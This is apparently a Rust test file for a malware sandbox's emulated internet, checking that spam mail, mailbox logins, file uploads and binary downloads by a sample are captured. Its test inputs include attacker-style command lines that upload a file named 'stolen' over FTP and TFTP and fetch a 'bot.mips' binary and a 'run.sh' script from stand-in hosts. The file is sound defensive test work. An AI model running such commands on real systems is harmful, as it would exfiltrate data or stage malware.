//! Mail and files: `swaks`, `lftp`, `tftp`, `curl`.

use super::client;
use crate::support::internet::VirtualInternet;
use crate::support::network::in_own_world;
use ukai_model::Sha256;

#[test]
fn mail_goes_nowhere_and_is_kept() {
    in_own_world("internet::files::mail_goes_nowhere_and_is_kept");
    let internet = VirtualInternet::start("");
    for how in ["", "--tls", "--tlsc --port 465", "--auth LOGIN --auth-user a --auth-password b"] {
        client(
            &internet,
            &format!(
                "swaks --server mx.example.org {how} --from bot@infected.example \
                 --to victim@example.org --header 'Subject: offer' --body cheap --timeout 20"
            ),
        );
    }
    let kept = internet.events("mail.received", |mails| mails.len() == 4);
    assert!(kept.iter().all(|mail| mail["subject"] == "offer"), "{kept:?}");
    for (scheme, port) in [("pop3", 110), ("pop3s", 995), ("imap", 143), ("imaps", 993)] {
        let url = format!("{scheme}://mail.example.org:{port}");
        client(&internet, &format!("curl -sS -m 20 -k -u thief:anything {url}/"));
    }
    internet.events("login.attempt", |tries| {
        ["pop3", "imap"].iter().all(|protocol| {
            tries.iter().any(|one| {
                one["protocol"] == *protocol && one["user"] == "thief" && one["success"] == true
            })
        })
    });
}

#[test]
fn files_are_taken_and_given() {
    in_own_world("internet::files::files_are_taken_and_given");
    let internet = VirtualInternet::start("");
    std::fs::write(internet.folder().join("stolen"), vec![b's'; 20_000]).expect("a file");
    let listed = client(
        &internet,
        "lftp -e 'set ssl:verify-certificate no; set net:timeout 20; set net:max-retries 1; \
         set cmd:fail-exit yes; cls; put stolen -o in.bin; cls; bye' -u any,thing ftp.example.org",
    );
    assert!(listed.contains("in.bin"), "{listed}");
    client(
        &internet,
        "curl -sS -m 20 -T stolen ftp://u:p@[$(dig +short ftp.example.org AAAA)]/six.bin",
    );
    internet.events("sample.captured", |kept| {
        kept.iter().filter(|sample| sample["size"] == 20_000).count() == 2
    });
    client(&internet, "tftp -m octet $(dig +short tftp.example.org A) -c put stolen up.bin");
    internet.events("file.transfer", |moved| {
        moved.iter().any(|event| {
            event["protocol"] == "tftp" && event["size"] == 20_000 && event["success"] == true
        })
    });
}

#[test]
fn files_of_any_name_are_there() {
    in_own_world("internet::files::files_of_any_name_are_there");
    let internet = VirtualInternet::start("");
    let begins = |line: &str, file: &str, expected: &[u8]| {
        client(&internet, line);
        let bytes = std::fs::read(internet.folder().join(file)).expect(line);
        assert!(bytes.starts_with(expected), "{line}: {:?}", &bytes[..bytes.len().min(16)]);
        bytes
    };
    // Both change into folders before they ask.
    let url = "ftp://u:p@ftp.example.org/pub/bins/bot.mips";
    let elf = begins(&format!("curl -sS -m 20 {url} -o curl.bin"), "curl.bin", b"\x7fELF");
    assert_eq!(elf[18..20], [0, 8], "the machine is MIPS");
    let wget = format!("wget -q -T 20 -t 1 -O wget.bin {url}");
    assert_eq!(begins(&wget, "wget.bin", b"\x7fELF"), elf);
    begins("busybox ftpget -u u -p p ftp.example.org got.bin x.exe", "got.bin", b"MZ");
    let tftp = "tftp -m octet $(dig +short t.example.org A) -c get run.sh";
    let script = begins(tftp, "run.sh", b"#!");
    // What was made up is named, so that nobody takes it for the sample's.
    internet.events("file.transfer", |moved| {
        [("ftp", &elf), ("tftp", &script)].iter().all(|(protocol, bytes)| {
            moved.iter().any(|event| {
                event["protocol"] == *protocol
                    && event["success"] == true
                    && event["operation"] == "download"
                    && event["served"] == Sha256::of(bytes).to_string()
            })
        })
    });
}
